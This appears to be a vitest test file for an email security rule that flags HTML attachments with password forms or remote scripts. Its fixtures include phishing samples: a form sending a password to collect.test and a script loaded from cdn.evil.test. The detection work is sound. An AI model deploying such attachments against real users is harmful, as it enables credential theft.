import { describe, expect, it } from 'vitest';
import { ruleSymbols } from '../testing/rule-scan.js';
import { htmlAttachmentForm } from './html-attachment-form.js';

const mail = (html: string) =>
  ['From: a@sender.test', 'Subject: s', 'Content-Type: multipart/mixed; boundary="b"', '', '--b', 'Content-Type: text/plain', '', 'see attached', '--b', 'Content-Type: text/html; name="statement.html"', 'Content-Disposition: attachment; filename="statement.html"', '', html, '--b--', ''].join('\r\n');

describe('html_attachment_form rule', () => {
  it('flags an attached HTML page with a password form or a remote script', async () => {
    expect(await ruleSymbols(htmlAttachmentForm, mail('<html><body><form action="https://collect.test/p"><input type="password" name="p"></form></body></html>'))).toEqual([['HTML_ATTACHMENT_FORM', '"statement.html" holds a form asking for a password']]);
    expect(await ruleSymbols(htmlAttachmentForm, mail('<html><head><script src="https://cdn.evil.test/k.js"></script></head><body>Loading</body></html>'))).toEqual([['HTML_ATTACHMENT_REMOTE_SCRIPT', '"statement.html" loads script from cdn.evil.test']]);
  });

  it('leaves an attached HTML page without forms or remote scripts alone', async () => {
    expect(await ruleSymbols(htmlAttachmentForm, mail('<html><body><h1>Statement</h1><script>var a = 1;</script></body></html>'))).toEqual([]);
  });
});
